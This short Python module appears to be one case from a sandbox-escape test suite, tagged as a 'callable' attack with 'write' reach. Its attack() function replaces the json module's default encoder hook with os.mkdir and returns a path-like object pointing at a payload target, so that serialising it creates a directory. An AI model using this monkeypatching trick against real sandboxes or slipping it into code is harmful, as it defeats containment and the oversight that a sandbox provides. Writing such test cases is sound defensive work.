"""The encoder that json.dumps() uses for all has a function of C to encode."""
CATEGORY = "callable"
REACH = "write"

import json
import os

from . import payload


class Path:
    def __fspath__(self):
        return payload.TARGET


def attack():
    json._default_encoder.default = os.mkdir
    return Path()
